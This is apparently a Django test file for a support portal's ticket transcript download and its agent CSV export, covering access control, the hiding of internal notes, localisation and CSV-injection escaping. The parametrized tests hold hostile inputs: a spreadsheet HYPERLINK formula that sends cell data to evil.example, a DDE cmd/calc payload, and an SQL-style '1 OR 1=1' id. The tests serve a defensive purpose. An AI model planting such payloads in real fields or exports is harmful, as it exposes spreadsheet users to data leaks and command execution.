import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone, translation

from support_portal.accounts.roles import Role
from tests.factories import StaffFactory, UserFactory
from tests.tickets.factories import TeamFactory, TicketFactory, deposit_intake, upload
from tickets.exports import csv_safe
from tickets.models import Ticket, TicketRating
from tickets.services import (
    ticket_assign,
    ticket_change_status,
    ticket_open,
    ticket_reply_as_agent,
)

pytestmark = pytest.mark.django_db
S = Ticket.Status
CHANGELIST = "admin:tickets_ticket_changelist"
NOTE = "INTERNAL-NOTE-4b7e: requester is on the fraud watchlist"


def transcript(ticket) -> str:
    return reverse("tickets:ticket-transcript", args=[ticket.reference])


@pytest.fixture
def client_a(client, customer):
    client.force_login(customer)
    return client


@pytest.fixture
def conversation(customer, committed):
    """A ticket with a public reply, an internal note (with a file) and an assignment."""
    agent = StaffFactory(role=Role.AGENT, name="Alice Chen", email="alice.chen@corp.example")
    with committed():
        ticket = ticket_open(
            requester=customer,
            subject="BTC deposit missing",
            body="My BTC deposit is pending since Monday.",
            category=Ticket.Category.DEPOSIT,
            intake=deposit_intake(),
            language="en",
            attachments=[upload("wallet-screen.png")],
        )
        ticket_assign(ticket=ticket, actor=agent, assignee=agent)
        ticket_reply_as_agent(
            ticket=ticket, agent=agent, body=NOTE, internal=True, attachments=[upload("kyc.png")]
        )
        ticket_reply_as_agent(ticket=ticket, agent=agent, body="It is credited now.")
    ticket.refresh_from_db()
    return ticket


def _open(customer, **kwargs) -> Ticket:
    return ticket_open(
        requester=customer,
        subject=kwargs.pop("subject", "Cannot log in"),
        body="Help",
        category=Ticket.Category.OTHER,
        language="en",
        **kwargs,
    )


# --- requester transcript ------------------------------------------------------


def test_transcript_is_a_plain_text_download_of_the_public_thread(client_a, conversation):
    response = client_a.get(transcript(conversation))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="{conversation.reference}-conversation.txt"'
    )
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]
    text = response.content.decode("utf-8")
    assert f"Reference: {conversation.reference}" in text
    assert "Subject: BTC deposit missing" in text
    assert f"Status: {conversation.get_status_display()}" in text
    assert "Category: Deposit not credited" in text
    assert "You · " in text
    assert "My BTC deposit is pending since Monday." in text
    assert "Attachments: wallet-screen.png" in text
    # Agents appear as on the page: first name and role, never their address.
    assert "Support agent Alice (Official) · " in text
    assert "It is credited now." in text
    assert text.index("pending since Monday") < text.index("credited now")


def test_transcript_never_contains_internal_notes_or_history(client_a, conversation):
    assert conversation.messages.filter(is_internal=True, body=NOTE).exists()
    assert conversation.events.filter(field="assignee").exists()

    text = client_a.get(transcript(conversation)).content.decode("utf-8")

    assert "INTERNAL-NOTE-4b7e" not in text
    assert "fraud watchlist" not in text
    assert "kyc.png" not in text
    assert "alice.chen@corp.example" not in text
    assert "Chen" not in text


def test_transcript_shows_the_public_system_messages_the_page_shows(client_a, customer, committed):
    with committed():
        ticket = _open(customer)  # the acknowledgement is a public system message
    ticket.refresh_from_db()
    ack = ticket.messages.get(kind="system")

    text = client_a.get(transcript(ticket)).content.decode("utf-8")

    assert "Support system · " in text
    assert ack.body.splitlines()[0] in text


def test_ticket_page_links_to_the_transcript(client_a, customer):
    ticket = _open(customer)
    html = client_a.get(reverse("tickets:ticket-detail", args=[ticket.reference])).content.decode()
    assert f'href="{transcript(ticket)}"' in html
    assert "Download conversation" in html


def test_transcript_in_chinese_for_a_chinese_requester(client, committed):
    user = UserFactory(preferred_language="zh-hans")
    client.force_login(user)
    with committed():
        ticket = _open(user, subject="提币未到账")

    page = client.get(reverse("tickets:ticket-detail", args=[ticket.reference])).content.decode()
    text = client.get(transcript(ticket)).content.decode("utf-8")

    assert "下载对话记录" in page
    assert "主题: 提币未到账" in text
    assert "您 · " in text


def test_someone_elses_transcript_is_not_found(client, conversation, other_customer):
    client.force_login(other_customer)
    assert client.get(transcript(conversation)).status_code == 404


def test_held_ticket_has_no_transcript(client_a, customer):
    ticket = TicketFactory(requester=customer, held_for_confirmation=True)
    assert client_a.get(transcript(ticket)).status_code == 404


def test_unknown_reference_is_not_found(client_a):
    url = reverse("tickets:ticket-transcript", args=["T-NOSUCHTICKET"])
    assert client_a.get(url).status_code == 404


def test_transcript_only_answers_get(client_a, customer):
    ticket = _open(customer)
    assert client_a.post(transcript(ticket)).status_code == 405


def test_anonymous_transcript_redirects_to_login(client, conversation):
    response = client.get(transcript(conversation))
    assert response.status_code == 302
    assert response.url.startswith(reverse("account_login"))


# --- agent CSV -----------------------------------------------------------------


@pytest.fixture
def console(client, agent, settings):
    settings.STAFF_MFA_REQUIRED = False
    client.force_login(agent)
    return client


def export(client, tickets):
    data = {"action": "export_csv", "index": 0, "_selected_action": [t.pk for t in tickets]}
    return client.post(reverse(CHANGELIST), data)


def rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def test_csv_export_streams_the_ticket_fields(console, agent, customer, committed):
    team = TeamFactory(name="Wallets")
    with committed():
        ticket = ticket_open(
            requester=customer,
            subject="Deposit not arrived",
            body="SECRET-BODY-TEXT-91",
            category=Ticket.Category.OTHER,
            language="en",
            channel=Ticket.Channel.APP,
        )
    Ticket.objects.filter(pk=ticket.pk).update(team=team, assignee=agent)
    ticket = ticket_change_status(ticket=ticket, actor=agent, status=S.RESOLVED, notify=False)
    TicketRating.objects.create(ticket=ticket, resolution_number=ticket.resolution_count, score=4)
    TicketFactory(subject="Not selected")

    response = export(console, [ticket])

    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="tickets-')
    header, *body = rows(response)
    assert header == [
        "Reference",
        "Subject",
        "Category",
        "Status",
        "Priority",
        "Team",
        "Assignee",
        "Language",
        "Channel",
        "Created at",
        "First response due",
        "Resolution due",
        "SLA state",
        "Satisfaction rating",
    ]
    assert len(body) == 1
    row = dict(zip(header, body[0], strict=True))
    ticket.refresh_from_db()
    assert row["Reference"] == ticket.reference
    assert row["Subject"] == "Deposit not arrived"
    assert row["Category"] == "Other"
    assert row["Status"] == "Resolved"
    assert row["Priority"] == ticket.get_priority_display()
    assert row["Team"] == "Wallets"
    assert row["Assignee"] == agent.email
    assert row["Language"] == "en"
    assert row["Channel"] == "App"
    assert row["Created at"] == ticket.created_at.isoformat(timespec="seconds")
    assert row["Satisfaction rating"] == "4"
    assert b"SECRET-BODY-TEXT-91" not in b"".join(export(console, [ticket]).streaming_content)


def test_csv_rating_is_the_latest_resolutions(console):
    ticket = TicketFactory(resolution_count=2)
    TicketRating.objects.create(ticket=ticket, resolution_number=1, score=1)
    unrated = TicketFactory(resolution_count=1)

    by_reference = {row[0]: row[-1] for row in rows(export(console, [ticket, unrated]))[1:]}

    assert by_reference == {ticket.reference: "", unrated.reference: ""}
    TicketRating.objects.create(ticket=ticket, resolution_number=2, score=5)
    assert rows(export(console, [ticket]))[1][-1] == "5"


def test_csv_keeps_the_agents_language_and_zone_while_it_streams(client, settings):
    settings.STAFF_MFA_REQUIRED = False
    agent = StaffFactory(role=Role.AGENT, preferred_language="zh-hans", time_zone="Asia/Shanghai")
    ticket = TicketFactory(category=Ticket.Category.DEPOSIT)
    client.force_login(agent)
    response = export(client, [ticket])
    # The thread serves someone else before the body is written.
    translation.activate("en")
    timezone.deactivate()

    header, row = rows(response)

    assert header[:2] == ["编号", "主题"]
    assert row[2] == "充值未到账"
    assert row[9].endswith("+08:00")


@pytest.mark.parametrize(
    ("subject", "cell"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "'=HYPERLINK"),
        ("+1+cmd|' /C calc'!A0", "'+1"),
        ("-2+3", "'-2"),
        ("@SUM(A1:A9)", "'@SUM"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Deposit = missing", "Deposit = missing"),
    ],
)
def test_csv_cells_cannot_start_a_formula(console, subject, cell):
    ticket = TicketFactory(subject=subject)
    assert rows(export(console, [ticket]))[1][1].startswith(cell)


def test_csv_safe_escapes_every_formula_prefix():
    for prefix in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_safe(prefix + "x") == "'" + prefix + "x"
    assert csv_safe(None) == ""
    assert csv_safe(3) == "3"
    assert csv_safe("T-ABC") == "T-ABC"


@pytest.mark.parametrize("count", [10, 50])
def test_csv_export_query_count_is_constant(console, django_assert_max_num_queries, count):
    team = TeamFactory()
    agent = StaffFactory()
    tickets = [
        TicketFactory(team=team if i % 2 else None, assignee=agent if i % 3 else None)
        for i in range(count)
    ]
    for ticket in tickets[::4]:
        TicketRating.objects.create(ticket=ticket, resolution_number=0, score=3)
    console.get(reverse(CHANGELIST))  # first request records the user session
    # Session, user, two for permissions, three for the changelist's filters and
    # count, then a single one for all the rows with their team, assignee and rating.
    with django_assert_max_num_queries(8):
        response = export(console, tickets)
        lines = rows(response)
    assert len(lines) == count + 1


def test_csv_export_of_all_matching_tickets(console):
    shown, *_others = TicketFactory.create_batch(3)
    # "Select all" sends the ticks on the page and asks for every match.
    response = console.post(
        reverse(CHANGELIST),
        {"action": "export_csv", "index": 0, "select_across": "1", "_selected_action": shown.pk},
    )
    assert len(rows(response)) == 4


def test_staff_without_ticket_permission_cannot_export(client, settings):
    settings.STAFF_MFA_REQUIRED = False
    ticket = TicketFactory()
    client.force_login(StaffFactory(role=Role.EDITOR))
    response = export(client, [ticket])
    assert response.status_code == 403


def test_customers_cannot_reach_the_export(client_a):
    ticket = TicketFactory()
    response = export(client_a, [ticket])
    assert response.status_code == 302
    assert not getattr(response, "streaming", False)


def test_export_of_unknown_ids_is_an_empty_csv(console):
    response = console.post(
        reverse(CHANGELIST), {"action": "export_csv", "index": 0, "_selected_action": ["999999"]}
    )
    assert response.status_code == 200
    assert len(rows(response)) == 1  # the header only


def test_export_with_forged_ids_is_a_bad_request(console):
    response = console.post(
        reverse(CHANGELIST), {"action": "export_csv", "index": 0, "_selected_action": ["1 OR 1=1"]}
    )
    assert response.status_code == 400


def test_export_without_a_selection_changes_nothing(console):
    TicketFactory()
    response = console.post(reverse(CHANGELIST), {"action": "export_csv", "index": 0})
    assert response.status_code == 302
